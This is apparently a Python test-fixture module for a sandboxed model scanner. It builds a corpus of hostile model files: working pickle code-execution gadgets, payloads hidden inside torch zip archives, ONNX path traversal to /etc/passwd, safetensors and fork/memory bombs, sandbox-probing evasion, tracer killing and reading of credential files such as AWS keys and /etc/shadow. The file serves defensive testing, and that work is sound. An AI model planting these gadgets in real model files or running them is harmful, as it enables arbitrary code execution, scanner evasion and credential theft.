"""The hostile corpus: each fixture is built at test time, in code, and names its technique.

Every payload is harmless outside the sandbox too: it writes marker files under /tmp only
(inside the sandbox that is the scratch tmpfs; the test checks the host's /tmp), connects to
127.0.0.1 only, looks up names under `.invalid` only, and bounds its loops and allocations.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

from tests.fixtures import hostile
from tests.hostile.pickles import Asm


@dataclass(frozen=True)
class Fixture:
    name: str
    technique: str
    build: Callable[[Path, str], Path]  # (directory, marker path) -> model path
    expect: frozenset[str]  # finding ids that must appear
    infer: np.ndarray | None = None  # calls to make (the same input each time)
    calls: int = 1
    policy: dict[str, object] = field(default_factory=dict)
    error: str = ""  # an error kind the run must end with, if any


def _shell(marker: str) -> str:
    return f"echo pwned > {marker}"


def _w(d: Path, name: str, data: bytes) -> Path:
    p = d / name
    p.write_bytes(data)
    return p


# --- pickle gadgets beyond os.system -----------------------------------------------------------


def builtins_exec(d: Path, marker: str) -> Path:
    # builtins.exec of a code string that runs a shell command.
    code = f"import os; os.system({_shell(marker)!r})"
    return _w(d, "exec.pkl", Asm().call("builtins", "exec", code).stop())


def builtins_eval(d: Path, marker: str) -> Path:
    # builtins.eval of an expression that imports os and runs a shell command.
    expr = f"__import__('os').system({_shell(marker)!r})"
    return _w(d, "eval.pkl", Asm().call("builtins", "eval", expr).stop())


def runpy_gadget(d: Path, marker: str) -> Path:
    # runpy._run_module_code execs a code string in a fresh module namespace.
    code = f"import os; os.system({_shell(marker)!r})"
    return _w(d, "runpy.pkl", Asm().call("runpy", "_run_module_code", code, None, "m").stop())


def importlib_getattr(d: Path, marker: str) -> Path:
    # getattr(importlib.import_module('os'), 'system')(cmd): no os.system in the stream.
    a = Asm().stack_glob("builtins", "getattr").mark()
    a.call("importlib", "import_module", "os").string("system").tuple().reduce()
    a.mark().string(_shell(marker)).tuple().reduce()
    return _w(d, "importlib.pkl", a.stop())


def pkgutil_resolve(d: Path, marker: str) -> Path:
    # pkgutil.resolve_name('os:system') returns the function; then it is called.
    a = Asm().call("pkgutil", "resolve_name", "os:system")
    a.mark().string(_shell(marker)).tuple().reduce()
    return _w(d, "pkgutil.pkl", a.stop())


def timeit_gadget(d: Path, marker: str) -> Path:
    # timeit compiles and runs its stmt string: Timer(stmt).timeit(1) runs it once.
    stmt = f"import os; os.system({_shell(marker)!r})"
    a = Asm().stack_glob("builtins", "getattr").mark()
    a.call("timeit", "Timer", stmt).string("timeit").tuple().reduce()
    a.mark().int(1).tuple().reduce()
    return _w(d, "timeit.pkl", a.stop())


def cprofile_gadget(d: Path, marker: str) -> Path:
    # cProfile.run executes a statement under the profiler.
    stmt = f"import os; os.system({_shell(marker)!r})"
    return _w(d, "cprofile.pkl", Asm().call("cProfile", "run", stmt).stop())


def multiprocessing_spawn(d: Path, marker: str) -> Path:
    # multiprocessing.util.spawnv_passfds: fork+exec hidden in a helper module.
    a = Asm().call(
        "multiprocessing.util", "spawnv_passfds", b"/bin/sh", ["sh", "-c", _shell(marker)], ()
    )
    return _w(d, "mp.pkl", a.stop())


def uuid_popen(d: Path, marker: str) -> Path:
    # uuid._get_command_stdout runs a command through subprocess.
    a = Asm().call("uuid", "_get_command_stdout", "sh", "-c", _shell(marker))
    return _w(d, "uuid.pkl", a.stop())


def ctypes_libc(d: Path, marker: str) -> Path:
    # ctypes: load libc and call system() through it, below Python's audit hooks.
    a = Asm().stack_glob("builtins", "getattr").mark()
    a.call("ctypes", "CDLL", "libc.so.6").string("system").tuple().reduce()
    a.mark().raw(_shell(marker).encode()).tuple().reduce()
    return _w(d, "ctypes.pkl", a.stop())


def memo_stack_global(d: Path, marker: str) -> Path:
    # STACK_GLOBAL with module and name assembled at run time and passed through the memo:
    # "os" and "system" never appear as strings in the stream.
    a = Asm()
    a.call("operator", "add", "o", "s")
    mod = a.memoize()
    a.pop()
    a.call("operator", "add", "sys", "tem")
    name = a.memoize()
    a.pop()
    a.get(mod).get(name)
    a.out += pickle.STACK_GLOBAL
    a.mark().string(_shell(marker)).tuple().reduce()
    return _w(d, "memo.pkl", a.stop())


def broken_after_payload(d: Path, marker: str) -> Path:
    # The stream breaks right after the payload: loading fails, but the payload already ran.
    data = Asm().call("posix", "system", _shell(marker)).stop()[:-1] + b"\x00garbage"
    return _w(d, "broken.pkl", data)


# --- torch zips ------------------------------------------------------------------------------


def _benign_torch_zip() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.arange(64, dtype=torch.float32)}, buf)
    return buf.getvalue()


def corrupted_crc(d: Path, marker: str) -> Path:
    # A torch zip with one stored byte changed: its CRC no longer matches.
    data = bytearray(_benign_torch_zip())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = next(i for i in zf.infolist() if i.filename.endswith("data/0"))
    name_len, extra_len = struct.unpack(
        "<HH", data[info.header_offset + 26 : info.header_offset + 30]
    )
    start = info.header_offset + 30 + name_len + extra_len  # the member's stored bytes
    data[start + 7] ^= 0xFF
    return _w(d, "crc.pt", bytes(data))


def pickle_zip_polyglot(d: Path, marker: str) -> Path:
    # One file that is both a pickle (read from the start) and a torch zip (read from the end).
    payload = Asm().call("posix", "system", _shell(marker)).stop()
    return _w(d, "polyglot.pt", payload + _benign_torch_zip())


def nested_pickle(d: Path, marker: str) -> Path:
    # An outer pickle that unpickles an inner one from bytes: the gadget is one level down.
    inner = Asm().call("posix", "system", _shell(marker)).stop()
    return _w(d, "nested.pkl", Asm().call("pickle", "loads", inner).stop())


def zip_bomb_member(d: Path, marker: str) -> Path:
    # A torch zip with a member that inflates from about 1 MiB to 1 GiB.
    buf = io.BytesIO(_benign_torch_zip())
    with (
        zipfile.ZipFile(buf, "a", compression=zipfile.ZIP_DEFLATED) as zf,
        zf.open("archive/data/bomb", "w", force_zip64=True) as member,
    ):
        block = b"\0" * (1 << 20)
        for _ in range(1024):
            member.write(block)
    return _w(d, "bomb.pt", buf.getvalue())


def local_header_mismatch(d: Path, marker: str) -> Path:
    # A torch zip whose local header names another member than its central-directory entry
    # (readers that trust one or the other see different archives).
    data = bytearray(_benign_torch_zip())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = next(i for i in zf.infolist() if i.filename.endswith("data/0"))
    name_at = info.header_offset + 30
    data[name_at + len(info.filename) - 1] = ord("7")  # archive/data/0 -> archive/data/7
    return _w(d, "header.pt", bytes(data))


def _rezip(members: list[tuple[str, bytes]], between: dict[int, bytes]) -> bytes:
    """A stored zip of `members`, with raw bytes written after member i (no member owns
    them; the central directory still points at every member correctly)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as zf:
        for i, (name, data) in enumerate(members):
            zf.writestr(name, data)
            if i in between:
                buf.seek(zf.start_dir)
                buf.write(between[i])
                zf.start_dir = buf.tell()
    return buf.getvalue()


def _members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def hidden_between_members(d: Path, marker: str) -> Path:
    # A pickle payload hidden between two members of a torch zip, owned by no member.
    payload = Asm().call("posix", "system", _shell(marker)).stop()
    return _w(d, "hidden.pt", _rezip(_members(_benign_torch_zip()), {0: payload}))


def trailing_after_archive(d: Path, marker: str) -> Path:
    # A payload appended after the end of a torch zip archive.
    payload = Asm().call("posix", "system", _shell(marker)).stop()
    return _w(d, "trailing.pt", _benign_torch_zip() + payload)


def fake_end_record(d: Path, marker: str) -> Path:
    # A payload after a torch zip, then a copy of the archive's end record, so the archive
    # still seems to end at the end of the file.
    payload = Asm().call("posix", "system", _shell(marker)).stop()
    data = _benign_torch_zip()
    return _w(d, "fake-end.pt", data + payload + data[data.rfind(b"PK\x05\x06") :])


def unreferenced_member(d: Path, marker: str) -> Path:
    # A torch zip with an extra tensor member the checkpoint never refers to, holding a payload.
    payload = Asm().call("posix", "system", _shell(marker)).stop()
    buf = io.BytesIO(_benign_torch_zip())
    with zipfile.ZipFile(buf, "a") as zf:
        prefix = zf.infolist()[0].filename.split("/")[0]
        zf.writestr(f"{prefix}/data/99", payload)
    return _w(d, "unreferenced.pt", buf.getvalue())


# --- inference-time payloads ------------------------------------------------------------------

FOURTH_CALL_SOURCE = """
import torch

class Sleeper(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.calls = 0

    def forward(self, x):
        self.calls += 1
        if self.calls >= 4:
            # from the fourth call: read a file and return its bytes as the output
            return torch.from_file("/proc/self/environ", shared=False, size=64,
                                   dtype=torch.uint8).to(torch.float32)
        return x * 2.0
"""


def torchscript_fourth_call(d: Path, marker: str) -> Path:
    # TorchScript that behaves for three calls, then reads the environment and returns it.
    import importlib.util
    import sys

    import torch

    src = d / "sleeper_src.py"
    src.write_text(FOURTH_CALL_SOURCE)
    spec = importlib.util.spec_from_file_location("sleeper_src", src)
    assert spec and spec.loader
    mod = importlib.util.module_from_spec(spec)
    sys.modules["sleeper_src"] = mod
    spec.loader.exec_module(mod)
    scripted = torch.jit.script(mod.Sleeper())
    path = d / "sleeper.pt"
    scripted.save(str(path))
    src.unlink()
    return path


def forward_hook(d: Path, marker: str) -> Path:
    # A forward hook registered while unpickling: it fires only at inference.
    return _w(
        d,
        "hook.pkl",
        hostile.code_pickle(hostile.HOOK_CODE.replace("/tmp/hook-marker", marker), "model"),
    )


# --- ONNX external data and safetensors headers ------------------------------------------------


def _onnx_with_external(location: str) -> bytes:
    from onnx import TensorProto, helper

    w = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4, 3])
    w.data_location = TensorProto.EXTERNAL
    for k, v in (("location", location), ("offset", "0"), ("length", "48")):
        entry = w.external_data.add()
        entry.key, entry.value = k, v
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["y"])],
        "ext",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])],
        [w],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return bytes(model.SerializeToString())


def onnx_external_dotdot(d: Path, marker: str) -> Path:
    # ONNX external data that climbs out of the model's directory with ../
    return _w(d, "dotdot.onnx", _onnx_with_external("../../../etc/passwd"))


def onnx_external_nested(d: Path, marker: str) -> Path:
    # ONNX external data with ../ hidden in a Constant's tensor inside an If node's subgraph,
    # where a reader of the top-level initializers only would not look.
    from onnx import TensorProto, helper

    t = TensorProto(name="C", data_type=TensorProto.FLOAT, dims=[3])
    t.data_location = TensorProto.EXTERNAL
    for k, v in (("location", "../../../etc/passwd"), ("offset", "0"), ("length", "12")):
        entry = t.external_data.add()
        entry.key, entry.value = k, v

    def branch(name: str, value: TensorProto) -> object:
        return helper.make_graph(
            [helper.make_node("Constant", [], [name], value=value)],
            name,
            [],
            [helper.make_tensor_value_info(name, TensorProto.FLOAT, [3])],
        )

    plain = helper.make_tensor("P", TensorProto.FLOAT, [3], [0.0, 0.0, 0.0])
    graph = helper.make_graph(
        [
            helper.make_node(
                "If", ["c"], ["y"], then_branch=branch("a", t), else_branch=branch("b", plain)
            )
        ],
        "nested",
        [helper.make_tensor_value_info("c", TensorProto.BOOL, [])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [3])],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return _w(d, "nested.onnx", bytes(model.SerializeToString()))


def onnx_external_absolute(d: Path, marker: str) -> Path:
    # ONNX external data at an absolute path.
    return _w(d, "absolute.onnx", _onnx_with_external("/etc/passwd"))


def onnx_external_symlink(d: Path, marker: str) -> Path:
    # ONNX external data through a symlink that leads out of the model's directory.
    model_dir = d / "linked"
    model_dir.mkdir()
    (model_dir / "model.onnx").write_bytes(_onnx_with_external("weights.bin"))
    os.symlink("/etc/passwd", model_dir / "weights.bin")
    (model_dir / "config.json").write_text("{}")
    return model_dir


def safetensors_header_bomb(d: Path, marker: str) -> Path:
    # A safetensors header length of 2**63: a reader that trusts it allocates without bound.
    return _w(d, "hdrbomb.safetensors", struct.pack("<Q", 1 << 63) + b'{"a":{}}')


def safetensors_offsets_past_end(d: Path, marker: str) -> Path:
    # Tensor offsets that point past the end of the file.
    header = b'{"w":{"dtype":"F32","shape":[1024],"data_offsets":[0,4096]}}'
    return _w(d, "offsets.safetensors", struct.pack("<Q", len(header)) + header + b"\0" * 16)


# --- resource abuse ------------------------------------------------------------------------


def fork_bomb(d: Path, marker: str) -> Path:
    # A fork bomb (bounded: 2000 forks, 60 s).
    return _w(d, "forkbomb.pkl", hostile.fork_bomb())


def memory_bomb(d: Path, marker: str) -> Path:
    # Allocate far past the memory limit (bounded: 4 GiB).
    return _w(d, "membomb.pkl", hostile.memory_bomb())


def cpu_spin(d: Path, marker: str) -> Path:
    # Spin the CPU in load (bounded: 120 s), past the load deadline.
    return _w(
        d,
        "spin.pkl",
        hostile.code_pickle(
            "import time\nend = time.time() + 120\nwhile time.time() < end:\n    pass\n"
        ),
    )


def fill_tmpfs(d: Path, marker: str) -> Path:
    # Fill the scratch tmpfs (bounded: 256 MiB of writes into a 64 MiB tmpfs).
    return _w(
        d,
        "fill.pkl",
        hostile.code_pickle(
            "block = b'x' * (1 << 20)\n"
            "try:\n"
            "    with open('/tmp/fill', 'wb') as f:\n"
            "        for _ in range(256):\n"
            "            f.write(block)\n"
            "except OSError:\n"
            "    pass\n"
        ),
    )


def output_flood(d: Path, marker: str) -> Path:
    # Flood stdout and stderr (bounded: 8 MiB each).
    return _w(
        d,
        "flood.pkl",
        hostile.code_pickle(
            "import os\nline = b'A' * 1023 + b'\\n'\n"
            "for _ in range(8192):\n    os.write(1, line)\n    os.write(2, line)\n"
        ),
    )


def huge_reply(d: Path, marker: str) -> Path:
    # A reply larger than the gRPC reply limit.
    return _w(d, "huge.pkl", hostile.huge_reply())


# --- worker failures -------------------------------------------------------------------------


def segfault(d: Path, marker: str) -> Path:
    # A native crash (SIGSEGV) through ctypes.
    return _w(d, "segv.pkl", hostile.segfault())


def close_grpc_socket(d: Path, marker: str) -> Path:
    # Close every socket the worker holds, cutting the gRPC connection mid-call.
    return _w(
        d,
        "closesock.pkl",
        hostile.code_pickle(
            "import os, stat\n"
            "for fd in range(3, 256):\n"
            "    try:\n"
            "        if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
            "            os.close(fd)\n"
            "    except OSError:\n"
            "        pass\n"
            "import time\ntime.sleep(30)\n"
        ),
    )


def hang_in_load(d: Path, marker: str) -> Path:
    # Hang in load (bounded: 10 minutes).
    return _w(d, "hang.pkl", hostile.hang_in_load())


# --- evasion ---------------------------------------------------------------------------------


def probe_then_behave(d: Path, marker: str) -> Path:
    # Probe for a sandbox (/.dockerenv, cgroups, TracerPid) and stay quiet when one is found.
    return _w(
        d,
        "evasive.pkl",
        hostile.code_pickle(
            "import os\n"
            "sandboxed = os.path.exists('/.dockerenv')\n"
            "try:\n    sandboxed |= 'docker' in open('/proc/1/cgroup').read()\nexcept OSError:\n"
            "    pass\n"
            "traced = any(l.startswith('TracerPid:') and l.split()[1] != '0'\n"
            "             for l in open('/proc/self/status'))\n"
            f"if not (sandboxed or traced):\n    os.system({_shell(marker)!r})\n"
        ),
    )


def kill_tracer(d: Path, marker: str) -> Path:
    # Try to kill the tracer (pid 1) and the parent with every signal that could stop them.
    return _w(d, "killtracer.pkl", hostile.kill_parent_and_tracer())


def read_environment_and_credentials(d: Path, marker: str) -> Path:
    # Read the process environments and the usual credential files.
    return _w(
        d,
        "creds.pkl",
        hostile.code_pickle(
            "paths = ['/proc/self/environ', '/proc/1/environ', '/root/.aws/credentials',\n"
            "         '/tmp/.ssh/id_rsa', '/var/run/secrets/kubernetes.io/token', '/etc/shadow']\n"
            "for p in paths:\n"
            "    try:\n        open(p, 'rb').read()\n    except OSError:\n        pass\n"
        ),
    )


X = np.zeros((2, 4), np.float32)

CORPUS: list[Fixture] = [
    Fixture(
        "builtins.exec",
        "pickle gadget: builtins.exec",
        builtins_exec,
        frozenset({"AL601", "AL202"}),
    ),
    Fixture(
        "builtins.eval",
        "pickle gadget: builtins.eval",
        builtins_eval,
        frozenset({"AL601", "AL202"}),
    ),
    Fixture("runpy", "pickle gadget: runpy", runpy_gadget, frozenset({"AL601", "AL202"})),
    Fixture(
        "importlib+getattr",
        "pickle gadget: importlib with getattr",
        importlib_getattr,
        frozenset({"AL601", "AL202"}),
    ),
    Fixture(
        "pkgutil.resolve_name",
        "pickle gadget: pkgutil.resolve_name",
        pkgutil_resolve,
        frozenset({"AL601", "AL202"}),
    ),
    Fixture(
        "timeit",
        "pickle gadget: code string run by timeit",
        timeit_gadget,
        frozenset({"AL601", "AL202"}),
    ),
    Fixture(
        "cProfile",
        "pickle gadget: code string run by cProfile",
        cprofile_gadget,
        frozenset({"AL601", "AL202"}),
    ),
    Fixture(
        "multiprocessing",
        "subprocess hidden in multiprocessing",
        multiprocessing_spawn,
        frozenset({"AL601", "AL202"}),
    ),
    Fixture("uuid", "subprocess hidden in uuid", uuid_popen, frozenset({"AL601", "AL202"})),
    Fixture("ctypes", "ctypes: libc system()", ctypes_libc, frozenset({"AL601", "AL202"})),
    Fixture(
        "memo STACK_GLOBAL",
        "names built at run time through the memo",
        memo_stack_global,
        frozenset({"AL601", "AL202"}),
    ),
    Fixture(
        "broken stream",
        "a stream that breaks right after the payload",
        broken_after_payload,
        frozenset({"AL601", "AL202", "AL701"}),
    ),
    Fixture("zip CRC", "torch zip with a corrupted CRC", corrupted_crc, frozenset({"AL701"})),
    Fixture(
        "polyglot",
        "pickle+zip polyglot",
        pickle_zip_polyglot,
        frozenset({"AL701", "AL601", "AL202"}),
    ),
    Fixture(
        "nested pickle",
        "nested pickle loaded from bytes",
        nested_pickle,
        frozenset({"AL601", "AL202"}),
    ),
    Fixture("zip bomb", "zip-bomb member", zip_bomb_member, frozenset({"AL701"})),
    Fixture(
        "zip local header",
        "a local header that disagrees with the central directory",
        local_header_mismatch,
        frozenset({"AL701"}),
    ),
    Fixture(
        "zip hidden bytes",
        "a payload between zip members, owned by none",
        hidden_between_members,
        frozenset({"AL701"}),
    ),
    Fixture(
        "zip trailing data",
        "a payload after the end of the zip archive",
        trailing_after_archive,
        frozenset({"AL701"}),
    ),
    Fixture(
        "zip unreferenced member",
        "a tensor member the checkpoint never refers to",
        unreferenced_member,
        frozenset({"AL701"}),
    ),
    Fixture(
        "zip fake end record",
        "a payload hidden behind a second end-of-archive record",
        fake_end_record,
        frozenset({"AL701"}),
    ),
    Fixture(
        "4th-call TorchScript",
        "TorchScript that reads a file from its fourth call",
        torchscript_fourth_call,
        frozenset({"AL303"}),
        infer=X,
        calls=5,
    ),
    Fixture(
        "forward hook",
        "forward hook registered while unpickling",
        forward_hook,
        frozenset({"AL202"}),
        infer=X,
    ),
    Fixture("onnx ../", "ONNX external data with ../", onnx_external_dotdot, frozenset({"AL702"})),
    Fixture(
        "onnx nested",
        "ONNX external data with ../ inside an If node's subgraph",
        onnx_external_nested,
        frozenset({"AL702"}),
    ),
    Fixture(
        "onnx absolute",
        "ONNX external data at an absolute path",
        onnx_external_absolute,
        frozenset({"AL702"}),
    ),
    Fixture(
        "onnx symlink",
        "ONNX external data through a symlink",
        onnx_external_symlink,
        frozenset({"AL702"}),
    ),
    Fixture(
        "safetensors header bomb",
        "safetensors header-length bomb",
        safetensors_header_bomb,
        frozenset({"AL701"}),
    ),
    Fixture(
        "safetensors offsets",
        "safetensors offsets past the end of the file",
        safetensors_offsets_past_end,
        frozenset({"AL701"}),
    ),
    Fixture(
        "fork bomb",
        "fork bomb",
        fork_bomb,
        frozenset({"AL201", "AL502"}),
        policy={"load_timeout_s": 90},
    ),
    Fixture(
        "memory bomb",
        "memory bomb",
        memory_bomb,
        frozenset({"AL501"}),
        policy={"memory_bytes": 512 << 20},
        error="LimitExceeded",
    ),
    Fixture(
        "cpu spin",
        "CPU spin",
        cpu_spin,
        frozenset({"AL503"}),
        policy={"load_timeout_s": 5},
        error="DeadlineExceeded",
    ),
    Fixture("fill tmpfs", "filling the tmpfs", fill_tmpfs, frozenset({"AL506"})),
    Fixture("output flood", "a flood of stdout and stderr", output_flood, frozenset({"AL507"})),
    Fixture(
        "huge reply",
        "a reply larger than the limit",
        huge_reply,
        frozenset({"AL504"}),
        infer=X,
        error="LimitExceeded",
    ),
    Fixture(
        "segfault", "native crash (segfault)", segfault, frozenset({"AL505"}), error="WorkerCrashed"
    ),
    Fixture(
        "close socket",
        "closing the gRPC socket",
        close_grpc_socket,
        frozenset({"AL505"}),
        policy={"load_timeout_s": 20},
    ),
    Fixture(
        "hang",
        "hanging in load",
        hang_in_load,
        frozenset({"AL503"}),
        policy={"load_timeout_s": 3},
        error="DeadlineExceeded",
    ),
    Fixture(
        "sandbox probe",
        "probing for the sandbox and behaving differently",
        probe_then_behave,
        frozenset({"AL304"}),
    ),
    Fixture(
        "kill tracer", "trying to kill the tracer and its parent", kill_tracer, frozenset({"AL403"})
    ),
    Fixture(
        "environment + credentials",
        "reading the environment and credential files",
        read_environment_and_credentials,
        frozenset({"AL303"}),
    ),
]
